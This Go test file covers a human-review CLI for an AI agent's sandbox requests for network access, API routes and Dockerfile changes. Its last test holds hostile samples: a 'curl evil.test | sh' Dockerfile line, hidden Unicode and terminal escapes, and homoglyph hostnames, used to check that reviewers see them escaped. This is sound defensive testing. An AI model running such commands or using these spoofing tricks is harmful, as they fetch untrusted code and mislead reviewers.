package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/claude-bottle/claude-bottle/internal/stage"
	"github.com/claude-bottle/claude-bottle/internal/supervise"
)

type recordingApplier struct {
	mu    sync.Mutex
	calls []string
	opts  []supervise.ApplyOptions
	err   error
}

func (r *recordingApplier) Apply(_ context.Context, instance string, req supervise.Request, opts supervise.ApplyOptions) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.calls = append(r.calls, instance+"/"+req.ID)
	r.opts = append(r.opts, opts)
	return r.err
}

// syncBuffer is stdout shared between a running watch and the test.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

type superviseEnv struct {
	state string
	cs    *mcp.ClientSession
	apply *recordingApplier
}

// newSuperviseEnv runs the supervise MCP server for instance "alpha" over
// real HTTP, with its queue in a temp state dir's stage layout.
func newSuperviseEnv(t *testing.T) *superviseEnv {
	t.Helper()
	state := t.TempDir()
	inst := stage.InstanceDir(state, "alpha")
	for _, d := range []string{stage.SuperviseReqs, stage.SuperviseDecided, stage.LogsDir, stage.CurrentConfig} {
		if err := os.MkdirAll(filepath.Join(inst, d), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(inst, stage.CurrentConfig, "Dockerfile"), []byte("FROM debian:13\nUSER agent\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	q := &supervise.Queue{
		RequestsDir:  filepath.Join(inst, stage.SuperviseReqs),
		DecisionsDir: filepath.Join(inst, stage.SuperviseDecided),
	}
	log := slog.New(slog.DiscardHandler)
	srv := httptest.NewServer(supervise.Handler(log, supervise.NewServer(log, nil, q)))
	t.Cleanup(srv.Close)
	c := mcp.NewClient(&mcp.Implementation{Name: "test-agent", Version: "1"}, nil)
	cs, err := c.Connect(context.Background(), &mcp.StreamableClientTransport{Endpoint: srv.URL + "/mcp", DisableStandaloneSSE: true}, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cs.Close() })
	return &superviseEnv{state: state, cs: cs, apply: &recordingApplier{}}
}

func (e *superviseEnv) globals(stdin io.Reader, stdout io.Writer) *globals {
	return &globals{
		stdin:  stdin,
		stdout: stdout,
		stderr: io.Discard,
		log:    slog.New(slog.DiscardHandler),
		getenv: func(k string) string {
			if k == "CLAUDE_BOTTLE_STATE_DIR" {
				return e.state
			}
			return ""
		},
	}
}

// run executes `supervise ARGS...` and returns its stdout.
func (e *superviseEnv) run(t *testing.T, args ...string) (string, error) {
	t.Helper()
	var out bytes.Buffer
	cmd := newSuperviseCmd(e.globals(strings.NewReader(""), &out), e.apply)
	cmd.SetArgs(args)
	cmd.SetOut(io.Discard)
	cmd.SetErr(io.Discard)
	err := cmd.ExecuteContext(context.Background())
	return out.String(), err
}

func (e *superviseEnv) call(t *testing.T, tool string, args map[string]any) map[string]any {
	t.Helper()
	res, err := e.cs.CallTool(context.Background(), &mcp.CallToolParams{Name: tool, Arguments: args})
	if err != nil {
		t.Fatal(err)
	}
	if res.IsError {
		t.Fatalf("%s: %v", tool, res.Content[0].(*mcp.TextContent).Text)
	}
	return res.StructuredContent.(map[string]any)
}

func (e *superviseEnv) file(t *testing.T, tool string, args map[string]any) string {
	t.Helper()
	return e.call(t, tool, args)["id"].(string)
}

func (e *superviseEnv) status(t *testing.T, id string) (string, string) {
	t.Helper()
	v := e.call(t, "get_request", map[string]any{"id": id})
	msg, _ := v["message"].(string)
	return v["status"].(string), msg
}

func TestSuperviseListApproveDeny(t *testing.T) {
	e := newSuperviseEnv(t)
	egress := e.file(t, "request_egress", map[string]any{"host": "pypi.org", "reason": "pip install requests"})
	route := e.file(t, "request_route", map[string]any{"service": "github", "upstream": "https://api.github.com", "reason": "open a PR"})

	out, err := e.run(t)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{egress, route, "alpha", "pypi.org:443", "github -> https://api.github.com", "pip install requests", "pending"} {
		if !strings.Contains(out, want) {
			t.Errorf("list lacks %q:\n%s", want, out)
		}
	}
	out, err = e.run(t, "--json")
	var ps []supervise.Pending
	if err != nil || json.Unmarshal([]byte(out), &ps) != nil || len(ps) != 2 || ps[0].Request.ID != egress {
		t.Fatalf("list --json: %v %s", err, out)
	}

	if out, err := e.run(t, "approve", egress, "--message", "go ahead", "--persist"); err != nil || !strings.Contains(out, "approved "+egress) {
		t.Fatalf("approve: %v %s", err, out)
	}
	if len(e.apply.calls) != 1 || e.apply.calls[0] != "alpha/"+egress || !e.apply.opts[0].Persist {
		t.Fatalf("applier calls %v %v", e.apply.calls, e.apply.opts)
	}
	if st, msg := e.status(t, egress); st != "approved" || msg != "go ahead" {
		t.Fatalf("get_request after approve: %s %q", st, msg)
	}

	if _, err := e.run(t, "deny", route, "-m", "use the gh CLI route instead"); err != nil {
		t.Fatal(err)
	}
	if len(e.apply.calls) != 1 {
		t.Fatalf("deny called the applier: %v", e.apply.calls)
	}
	if st, msg := e.status(t, route); st != "denied" || msg != "use the gh CLI route instead" {
		t.Fatalf("get_request after deny: %s %q", st, msg)
	}

	if out, _ := e.run(t); !strings.Contains(out, "no pending requests") {
		t.Fatalf("list after deciding: %s", out)
	}
	if out, _ := e.run(t, "--all", "--json"); !strings.Contains(out, `"verdict": "approved"`) {
		t.Fatalf("list --all: %s", out)
	}
	if _, err := e.run(t, "approve", egress); err == nil || !strings.Contains(err.Error(), "already decided") {
		t.Fatalf("approving twice: %v", err)
	}
	if _, err := e.run(t, "approve", "r-unknown"); !errors.Is(err, supervise.ErrNotFound) {
		t.Fatalf("unknown id: %v", err)
	}
}

func TestSuperviseApproveRouteTokenSource(t *testing.T) {
	e := newSuperviseEnv(t)
	route := e.file(t, "request_route", map[string]any{"service": "github", "upstream": "https://api.github.com", "reason": "open a PR"})
	egress := e.file(t, "request_egress", map[string]any{"host": "pypi.org", "reason": "pip"})
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"approve", route}, "--token-env"},
		{[]string{"approve", route, "--token-env", "A", "--token-file", "/f"}, "give one of"},
		{[]string{"approve", route, "--token-env", "A", "--token-format", "token"}, "has no {token}"},
		{[]string{"approve", route, "--token-header", "X-Key"}, "need a token source"},
		{[]string{"approve", egress, "--token-env", "A"}, "only apply to route requests"},
	} {
		if _, err := e.run(t, c.args...); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%v: %v, want %q", c.args, err, c.want)
		}
	}
	if len(e.apply.calls) != 0 {
		t.Fatalf("refused approvals reached the applier: %v", e.apply.calls)
	}
	if _, err := e.run(t, "approve", route, "--token-command", "pass show gh", "--token-header", "X-Key", "--token-format", "token {token}"); err != nil {
		t.Fatal(err)
	}
	cred := e.apply.opts[0].Credential
	if cred == nil || strings.Join(cred.Command, "|") != "pass|show|gh" || cred.Header != "X-Key" || cred.Format != "token {token}" {
		t.Fatalf("credential passed to the applier: %+v", cred)
	}
	if st, _ := e.status(t, route); st != "approved" {
		t.Fatalf("route status %s", st)
	}
}

func TestSuperviseWatchRouteAsksForToken(t *testing.T) {
	e := newSuperviseEnv(t)
	route := e.file(t, "request_route", map[string]any{"service": "github", "upstream": "https://api.github.com", "reason": "open a PR"})
	var out bytes.Buffer
	cmd := newSuperviseCmd(e.globals(strings.NewReader("a\nbogus\na ok\nenv:GH_TOKEN\nq\n"), &out), e.apply)
	cmd.SetArgs([]string{"--watch"})
	if err := cmd.ExecuteContext(context.Background()); err != nil {
		t.Fatal(err)
	}
	if len(e.apply.opts) != 1 || e.apply.opts[0].Credential == nil || e.apply.opts[0].Credential.Env != "GH_TOKEN" {
		t.Fatalf("applier opts %+v", e.apply.opts)
	}
	if st, msg := e.status(t, route); st != "approved" || msg != "ok" {
		t.Fatalf("status %s %q", st, msg)
	}
	if !strings.Contains(out.String(), "use env:NAME") {
		t.Fatalf("bad token source not explained:\n%s", out.String())
	}
}

func TestSuperviseApplyFailureLeavesPending(t *testing.T) {
	e := newSuperviseEnv(t)
	e.apply.err = errors.New("egress policy is not writable")
	id := e.file(t, "request_egress", map[string]any{"host": "pypi.org", "reason": "pip"})
	_, err := e.run(t, "approve", id)
	if err == nil || !strings.Contains(err.Error(), "egress policy is not writable") {
		t.Fatalf("approve: %v", err)
	}
	if st, _ := e.status(t, id); st != "pending" {
		t.Fatalf("status after failed apply: %s", st)
	}
}

func TestSuperviseShowDockerfileDiff(t *testing.T) {
	e := newSuperviseEnv(t)
	id := e.file(t, "propose_dockerfile", map[string]any{
		"content": "FROM debian:13\nRUN apt-get install -y jq\nUSER agent\n", "reason": "need jq"})
	out, err := e.run(t, "show", id)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{id, "alpha", "next launch", "need jq", "+RUN apt-get install -y jq", " FROM debian:13", "@@ -1,2 +1,3 @@"} {
		if !strings.Contains(out, want) {
			t.Errorf("show lacks %q:\n%s", want, out)
		}
	}
	out, err = e.run(t, "show", id, "--json")
	var v struct {
		Instance string `json:"instance"`
		Status   string `json:"status"`
		Diff     string `json:"diff"`
	}
	if err != nil || json.Unmarshal([]byte(out), &v) != nil || v.Instance != "alpha" || v.Status != "pending" || !strings.Contains(v.Diff, "+RUN apt-get") {
		t.Fatalf("show --json: %v %s", err, out)
	}
}

func TestSuperviseWatchWalksQueue(t *testing.T) {
	e := newSuperviseEnv(t)
	first := e.file(t, "request_egress", map[string]any{"host": "pypi.org", "reason": "pip"})
	second := e.file(t, "request_egress", map[string]any{"host": "files.pythonhosted.org", "reason": "pip"})
	third := e.file(t, "request_egress", map[string]any{"host": "example.org", "reason": "curious"})
	var out bytes.Buffer
	cmd := newSuperviseCmd(e.globals(strings.NewReader("a\nwhat\nd not now\ns\nq\n"), &out), e.apply)
	cmd.SetArgs([]string{"--watch"})
	if err := cmd.ExecuteContext(context.Background()); err != nil {
		t.Fatal(err)
	}
	if st, _ := e.status(t, first); st != "approved" {
		t.Errorf("first: %s", st)
	}
	if st, msg := e.status(t, second); st != "denied" || msg != "not now" {
		t.Errorf("second: %s %q", st, msg)
	}
	if st, _ := e.status(t, third); st != "pending" {
		t.Errorf("skipped third: %s", st)
	}
	s := out.String()
	if !strings.Contains(s, "\a") || !strings.Contains(s, `unknown answer "what"`) || !strings.Contains(s, "waiting for requests") {
		t.Errorf("watch output:\n%q", s)
	}
}

func TestSuperviseWatchWaitsForNew(t *testing.T) {
	e := newSuperviseEnv(t)
	pr, pw := io.Pipe()
	defer pw.Close()
	out := &syncBuffer{}
	cmd := newSuperviseCmd(e.globals(pr, out), e.apply)
	cmd.SetArgs([]string{"--watch"})
	errc := make(chan error, 1)
	go func() { errc <- cmd.ExecuteContext(context.Background()) }()

	waitFor(t, out, "waiting for requests")
	if strings.Contains(out.String(), "\a") {
		t.Fatal("bell rang with nothing pending")
	}
	id := e.file(t, "request_egress", map[string]any{"host": "pypi.org", "reason": "pip"})
	waitFor(t, out, id)
	waitFor(t, out, "[a]pprove")
	if !strings.Contains(out.String(), "\a") {
		t.Fatal("no bell for a new request")
	}
	if _, err := io.WriteString(pw, "a looks fine\n"); err != nil {
		t.Fatal(err)
	}
	waitFor(t, out, "approved "+id)
	if _, err := io.WriteString(pw, "q\n"); err != nil {
		t.Fatal(err)
	}
	if err := <-errc; err != nil {
		t.Fatal(err)
	}
	if st, msg := e.status(t, id); st != "approved" || msg != "looks fine" {
		t.Fatalf("status %s %q", st, msg)
	}
}

func TestSuperviseWatchStopsOnContext(t *testing.T) {
	e := newSuperviseEnv(t)
	pr, pw := io.Pipe()
	defer pw.Close()
	out := &syncBuffer{}
	ctx, cancel := context.WithCancel(context.Background())
	cmd := newSuperviseCmd(e.globals(pr, out), e.apply)
	cmd.SetArgs([]string{"--watch"})
	errc := make(chan error, 1)
	go func() { errc <- cmd.ExecuteContext(ctx) }()
	waitFor(t, out, "waiting for requests")
	cancel()
	if err := <-errc; err != nil {
		t.Fatal(err)
	}
}

func waitFor(t *testing.T, out *syncBuffer, want string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(out.String(), want) {
		if time.Now().After(deadline) {
			t.Fatalf("output never contained %q:\n%s", want, out.String())
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// The review views escape whatever a request holds, even one that got past
// validation (an older sidecar, a file written by hand): the person sees
// every hidden character as an escape, and an internationalized host as its
// A-label with a note.
func TestSuperviseViewsEscape(t *testing.T) {
	hidden := "a\u202eb\u009b31m\u200b\U000E0041\u00a0\x1b[2J"
	now := time.Now()
	ps := []supervise.Pending{
		{Instance: "alpha", Request: supervise.Request{ID: "r-1", Kind: supervise.KindEgress, Created: now, Reason: "why " + hidden,
			Egress: &supervise.EgressAsk{Host: "evil" + hidden + ".test", Port: 443}}},
		{Instance: "alpha", Request: supervise.Request{ID: "r-2", Kind: supervise.KindDockerfile, Created: now, Reason: "r",
			Dockerfile: &supervise.DockerfileAsk{Content: "FROM x\nRUN curl evil.test" + hidden + " | sh\n"}}},
		{Instance: "alpha", Request: supervise.Request{ID: "r-4", Kind: supervise.KindDockerfile, Created: now, Reason: "r",
			Dockerfile: &supervise.DockerfileAsk{Content: "FROM x\nRUN pip install r\u0435quests\n"}}},
		{Instance: "alpha", Request: supervise.Request{ID: "r-3", Kind: supervise.KindEgress, Created: now, Reason: "r",
			Egress: &supervise.EgressAsk{Host: "xn--pple-43d.com", Port: 443}}},
	}
	var out bytes.Buffer
	printList(&out, ps, now)
	for _, p := range ps {
		diff := ""
		if p.Request.Dockerfile != nil {
			diff = supervise.DockerfileDiff("FROM x\n", p.Request.Dockerfile.Content)
		}
		printShow(&out, p, diff, "diff against current", now)
	}
	if err := writeJSON(&out, ps); err != nil {
		t.Fatal(err)
	}
	assertShownEscaped(t, "supervise list/show/--json", out.String())
	for _, want := range []string{`evil a\u202eb\u009b31m\u200b\U000e0041\u00a0\u001b[2J.test`, `+RUN curl evil.testa\u202eb`,
		`xn--pple-43d.com:443`, `shown elsewhere as "\u0430pple.com": approving allows exactly the A-label above`,
		"note:     non-ASCII letters on line 2:"} {
		if !strings.Contains(out.String(), strings.Replace(want, "evil a", "evila", 1)) {
			t.Errorf("views lack %s:\n%s", want, out.String())
		}
	}
}
